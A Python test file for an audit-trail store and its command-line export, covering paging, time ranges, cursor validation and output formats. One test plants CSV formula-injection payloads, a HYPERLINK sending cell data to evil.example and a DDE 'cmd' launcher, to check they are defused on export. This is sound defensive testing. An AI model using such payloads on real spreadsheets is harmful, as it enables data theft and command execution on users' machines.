"""The audit trail: append-only entries queried by record, time, rule and decision, newest first, paged."""

from __future__ import annotations

import csv
import io
import json
from datetime import UTC, datetime, timedelta, timezone

import pytest
from click.testing import Result
from typer.testing import CliRunner

from sync_guard.config import Mode, get_settings
from sync_guard.errors import InvalidPayload
from sync_guard.guard.model import (
    ActionKind,
    AuditEntry,
    Decision,
    EntryKind,
    Finding,
    OutboxAction,
    Severity,
)
from sync_guard.guard.ports import EventAlreadyProcessed
from sync_guard.store.audit import AuditLog, AuditQuery, audit_items
from tests.support.aws import AwsResources

START = datetime(2026, 1, 30, 12, 0, tzinfo=UTC)


@pytest.fixture
def log(aws: AwsResources) -> AuditLog:
    return AuditLog(aws.dynamodb, get_settings().audit_table, now=lambda: START + timedelta(days=60))


def make_entry(
    number: int, *, days: float, records: tuple[str, ...], rules: tuple[str, ...] = ()
) -> AuditEntry:
    decision = Decision.QUARANTINE if "NAME_DRIFT" in rules else Decision.FLAG if rules else Decision.ALLOW
    findings = tuple(
        Finding(
            code=code, severity=Severity.HIGH, explanation="x", evidence=(f"ev {number}",), subject=records[0]
        )
        for code in rules
    )
    return AuditEntry(
        entry_id=f"evt_{number:03d}",
        at=START + timedelta(days=days),
        kind=EntryKind.DECISION,
        decision=decision,
        mode=Mode.ENFORCE,
        event_id=f"evt_{number:03d}",
        records=records,
        rules=rules,
        findings=findings,
        evidence=tuple(f"{code}: ev {number}" for code in rules),
    )


@pytest.fixture
def populated(log: AuditLog) -> list[AuditEntry]:
    # 30 entries over ~45 days, spanning January, February and March partitions
    entries = []
    for number in range(30):
        records = (f"crm:{number % 3}", f"books:{number % 5}")
        rules = (
            ("NAME_DRIFT",)
            if number % 4 == 0
            else ("EMAIL_MISMATCH", "BOTH_SIDES_CREATED")
            if number % 4 == 1
            else ()
        )
        entries.append(make_entry(number, days=number * 1.5, records=records, rules=rules))
    # Batch writes of the same items append() writes in a transaction: moto copies every table per
    # transaction, and these tests are about reading.
    items = [item for entry in entries for item in audit_items(entry)]
    for start in range(0, len(items), 25):
        requests = [{"PutRequest": {"Item": item}} for item in items[start : start + 25]]
        log._client.batch_write_item(RequestItems={log.table: requests})
    return entries


def newest_first(entries: list[AuditEntry]) -> list[str]:
    return [e.entry_id for e in sorted(entries, key=lambda e: e.at, reverse=True)]


def collect(log: AuditLog, query: AuditQuery, limit: int) -> tuple[list[str], int]:
    ids: list[str] = []
    pages = 0
    cursor = None
    while True:
        page = log.query(query, limit=limit, cursor=cursor)
        pages += 1
        assert len(page.entries) <= limit
        ids += [entry.entry_id for entry in page.entries]
        if page.cursor is None:
            return ids, pages
        cursor = page.cursor


def test_appending_twice_is_refused(log: AuditLog) -> None:
    entry = make_entry(1, days=0, records=("crm:1",))
    log.append(entry)
    with pytest.raises(EventAlreadyProcessed):
        log.append(entry)
    assert log.get("evt_001") == entry


def test_an_entry_is_read_strongly_consistent(aws: AwsResources) -> None:
    # The outbox reads a decision's entry moments after the processor's transaction wrote it.
    calls: list[dict[str, object]] = []

    class Recording:
        def get_item(self, **kwargs: object) -> dict[str, object]:
            calls.append(kwargs)
            return aws.dynamodb.get_item(**kwargs)  # type: ignore[no-any-return]

    assert AuditLog(Recording(), get_settings().audit_table).get("evt_404") is None
    assert calls[0]["ConsistentRead"] is True


def test_time_range_newest_first_across_month_partitions(log: AuditLog, populated: list[AuditEntry]) -> None:
    ids, pages = collect(log, AuditQuery(since=START, until=START + timedelta(days=60)), limit=7)
    assert ids == newest_first(populated)
    assert pages >= 5


def test_time_range_bounds(log: AuditLog, populated: list[AuditEntry]) -> None:
    since, until = START + timedelta(days=3), START + timedelta(days=9)
    ids, _ = collect(log, AuditQuery(since=since, until=until), limit=50)
    assert ids == newest_first([e for e in populated if since <= e.at <= until])


def test_by_record(log: AuditLog, populated: list[AuditEntry]) -> None:
    ids, _ = collect(log, AuditQuery(record="books:2"), limit=2)
    assert ids == newest_first([e for e in populated if "books:2" in e.records])


def test_by_rule_and_decision(log: AuditLog, populated: list[AuditEntry]) -> None:
    by_rule, _ = collect(log, AuditQuery(rule="EMAIL_MISMATCH"), limit=3)
    assert by_rule == newest_first([e for e in populated if "EMAIL_MISMATCH" in e.rules])
    by_decision, _ = collect(log, AuditQuery(decision="quarantine"), limit=3)
    assert by_decision == newest_first([e for e in populated if e.decision is Decision.QUARANTINE])


def test_criteria_combine(log: AuditLog, populated: list[AuditEntry]) -> None:
    query = AuditQuery(record="crm:1", rule="BOTH_SIDES_CREATED", until=START + timedelta(days=30))
    ids, _ = collect(log, query, limit=2)
    expected = [
        e
        for e in populated
        if "crm:1" in e.records and "BOTH_SIDES_CREATED" in e.rules and e.at <= START + timedelta(days=30)
    ]
    assert expected
    assert ids == newest_first(expected)


@pytest.mark.parametrize(
    "position",
    [{"i": 0, "k": "x"}, {"i": 0, "k": None, "u": "yesterday"}, {"i": 0, "k": {"pk": 5}}, {"i": "0"}, [0]],
)
def test_a_forged_cursor_is_a_client_error(log: AuditLog, position: object) -> None:
    import base64

    with pytest.raises(InvalidPayload) as raised:
        log.query(AuditQuery(), cursor="not-a-cursor")
    assert raised.value.field == "cursor"
    forged = base64.urlsafe_b64encode(json.dumps(position).encode()).decode()
    with pytest.raises(InvalidPayload) as raised:
        log.query(AuditQuery(), cursor=forged)
    assert raised.value.field == "cursor"


def test_a_limit_below_one_or_a_range_ending_before_it_starts_is_a_400_naming_the_field(
    log: AuditLog,
) -> None:
    with pytest.raises(InvalidPayload) as no_limit:
        log.query(AuditQuery(), limit=0)
    assert no_limit.value.field == "limit"
    with pytest.raises(InvalidPayload) as backwards:
        log.query(AuditQuery(since=START + timedelta(days=2), until=START))
    assert backwards.value.field == "since"


def test_iterate_reads_every_page(log: AuditLog, populated: list[AuditEntry]) -> None:
    query = AuditQuery(since=START, until=START + timedelta(days=60))

    ids = [entry.entry_id for entry in log.iterate(query, page_size=4)]

    assert ids == newest_first(populated)


def test_times_without_an_offset_are_utc_and_offsets_find_the_right_month(log: AuditLog) -> None:
    # An entry at 23:30 UTC on January 31 is 00:30 on February 1 in Paris.
    entry = make_entry(900, days=1.4791667, records=("crm:9",))  # START + 1.48 days: 2026-01-31 23:30 UTC
    log.append(entry)
    paris = timezone(timedelta(hours=1))
    window = AuditQuery(
        since=datetime(2026, 2, 1, 0, 0, tzinfo=paris), until=datetime(2026, 2, 1, 1, 0, tzinfo=paris)
    )
    assert [e.entry_id for e in log.query(window).entries] == ["evt_900"]
    naive = AuditQuery(since=datetime(2026, 1, 31, 23, 0), until=datetime(2026, 2, 1, 0, 0))
    assert [e.entry_id for e in log.query(naive).entries] == ["evt_900"]


# ---------------------------------------------------------------------------------------------- the CLI
def run_cli(*args: str) -> Result:
    from sync_guard.cli import app

    return CliRunner().invoke(app, ["audit", *args])


def test_cli_json_by_record_newest_first(populated: list[AuditEntry]) -> None:
    result = run_cli("--record", "books:2", "--since", "2026-01-01", "--until", "2026-03-31", "--json")
    assert result.exit_code == 0, result.output
    document = json.loads(result.stdout)
    expected = newest_first([e for e in populated if "books:2" in e.records])
    assert [entry["entry_id"] for entry in document["entries"]] == expected
    assert document["next_cursor"] is None


def test_cli_csv_by_rule_and_decision_with_paging(populated: list[AuditEntry]) -> None:
    result = run_cli(
        "--rule", "name_drift", "--decision", "quarantine", "--since", "2026-01-01", "--csv", "--limit", "3"
    )
    assert result.exit_code == 0, result.output
    rows = list(csv.DictReader(io.StringIO(result.stdout)))
    expected = newest_first([e for e in populated if "NAME_DRIFT" in e.rules])
    assert [row["entry_id"] for row in rows] == expected[:3]
    assert all(row["decision"] == "quarantine" and "NAME_DRIFT" in row["evidence"] for row in rows)
    assert "--cursor" in result.stderr
    cursor = result.stderr.split("--cursor", 1)[1].strip()
    more = run_cli(
        "--rule", "NAME_DRIFT", "--since", "2026-01-01", "--csv", "--limit", "3", "--cursor", cursor
    )
    assert [row["entry_id"] for row in csv.DictReader(io.StringIO(more.stdout))] == expected[3:6]


def test_cli_table_and_bad_input(populated: list[AuditEntry]) -> None:
    table = run_cli("--since", "2026-02-01", "--until", "2026-02-03T00:00:00Z")
    assert table.exit_code == 0, table.output
    inside = [
        e for e in populated if datetime(2026, 2, 1, tzinfo=UTC) <= e.at <= datetime(2026, 2, 3, tzinfo=UTC)
    ]
    assert inside
    assert all(e.at.strftime("%Y-%m-%d %H:%M:%S") in table.stdout for e in inside)
    assert run_cli("--record", "acme").exit_code == 2
    assert run_cli("--rule", "NOT_A_RULE").exit_code == 2
    assert run_cli("--since", "yesterday").exit_code == 2
    assert run_cli("--json", "--csv").exit_code == 2


def test_cli_csv_keeps_what_people_typed_as_text_in_a_spreadsheet(log: AuditLog) -> None:
    # An admin's reason, a caller's name and a customer's name can each start like a formula.
    from sync_guard.guard.admin import admin_entry

    log.append(
        admin_entry(
            "release",
            actor="local:@SUM(A1)",
            at=START,
            mode=Mode.ENFORCE,
            note='=HYPERLINK("https://evil.example/?d="&A1,"details")',
            records=("books:7",),
            evidence=("-2+3 outstanding",),
            names={"books:7": "=cmd|' /C calc'!A0"},
        )
    )

    result = run_cli("--record", "books:7", "--since", "2026-01-01", "--csv")

    assert result.exit_code == 0, result.output
    [row] = list(csv.DictReader(io.StringIO(result.stdout)))
    assert row["note"] == '\'=HYPERLINK("https://evil.example/?d="&A1,"details")'
    assert row["actor"] == "local:@SUM(A1)"  # not at the start of its cell: harmless as it is
    assert row["evidence"] == "'-2+3 outstanding"
    assert row["names"] == "books:7 =cmd|' /C calc'!A0"  # the admin can see which customer it is
    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in row.values())


def test_cli_all_exports_every_page_of_the_range(populated: list[AuditEntry]) -> None:
    result = run_cli("--rule", "NAME_DRIFT", "--since", "2026-01-01", "--csv", "--limit", "3", "--all")

    assert result.exit_code == 0, result.output
    rows = list(csv.DictReader(io.StringIO(result.stdout)))
    assert [row["entry_id"] for row in rows] == newest_first(
        [e for e in populated if "NAME_DRIFT" in e.rules]
    )
    assert len(rows) > 3
    assert "--cursor" not in result.stderr


def test_cli_until_a_date_includes_that_day(populated: list[AuditEntry]) -> None:
    # an entry in the afternoon of the last day asked for
    last_day = max(e.at for e in populated if e.at.hour >= 12).date()
    result = run_cli("--since", "2026-01-01", "--until", last_day.isoformat(), "--json", "--all")

    assert result.exit_code == 0, result.output
    found = {entry["entry_id"] for entry in json.loads(result.stdout)["entries"]}
    assert found == {e.entry_id for e in populated if e.at.date() <= last_day}


def test_cli_table_says_which_admin_operation_an_entry_is_and_how_it_went(log: AuditLog) -> None:
    # A replay's entry carries both: the ids it moved as evidence and what it did as its note.
    from sync_guard.guard.admin import admin_entry

    log.append(
        admin_entry(
            "replay_dlq",
            actor="user:alice",
            at=START,
            mode=Mode.ENFORCE,
            note="moved 1 message(s) from the outbox dead-letter queue back to its queue",
            evidence=("action_id=act_1",),
        )
    )

    table = run_cli("--since", "2026-01-01", "--decision", "admin")

    assert table.exit_code == 0, table.output
    assert "admin: sent dead-lettered messages back to their queue" in table.stdout
    assert "moved 1 message(s) from the outbox dead-letter queue" in table.stdout
    assert "action_id=act_1" in table.stdout


def test_cli_table_says_operations_and_outcomes_in_words_while_json_and_csv_keep_their_names(
    log: AuditLog,
) -> None:
    from sync_guard.executor.model import ActionStatus, Claim
    from sync_guard.executor.service import outcome_entry
    from sync_guard.guard.admin import admin_entry

    forgotten = admin_entry(
        "forget_release",
        actor="user:ivy",
        at=START,
        mode=Mode.ENFORCE,
        note="not a duplicate after all",
        records=("crm:1", "books:9"),
    )
    action = OutboxAction(
        action_id="act_1",
        kind=ActionKind.TAG_CRM_RECORD,
        target="crm:1",
        event_id=None,
        entry_id="adm_1",
        rules=(),
        decision=Decision.ADMIN,
        mode=Mode.ENFORCE,
        execute=True,
        queued_at=START,
    )
    failed = outcome_entry(
        Claim(action=action, attempt=1, token="t"),
        ActionStatus.FAILED,
        "Zoho refused",
        START + timedelta(minutes=1),
    )
    log.append(forgotten)
    log.append(failed)

    table = run_cli("--record", "crm:1", "--since", "2026-01-01")
    as_json = run_cli("--record", "crm:1", "--since", "2026-01-01", "--json")
    as_csv = run_cli("--record", "crm:1", "--since", "2026-01-01", "--csv")

    assert table.exit_code == 0, table.output
    shown = " ".join(table.stdout.replace("│", " ").split())
    assert "admin: forgot the release of crm:1 as not a duplicate of books:9" in shown
    assert "admin: hold tag on the CRM record failed (Zoho refused it)" in shown
    assert "forget_release" not in shown
    assert "tag_crm_record" not in shown
    recorded = [(e["decision"], e["operation"]) for e in json.loads(as_json.stdout)["entries"]]
    assert recorded == [("admin", "tag_crm_record:failed"), ("admin", "forget_release")]
    rows = list(csv.DictReader(io.StringIO(as_csv.stdout)))
    assert [(row["decision"], row["operation"]) for row in rows] == recorded


def test_cli_refusals_name_the_options_not_the_query_terms(log: AuditLog) -> None:
    backwards = run_cli("--since", "2026-03-01", "--until", "2026-02-01")
    assert backwards.exit_code == 2
    assert "Invalid value for --since: 2026-03-01 is after --until 2026-02-01" in " ".join(
        backwards.output.replace("│", " ").split()
    )

    stale = run_cli("--cursor", "not-a-cursor")
    assert stale.exit_code == 2
    assert "error: --cursor is not one this command produced" in stale.output
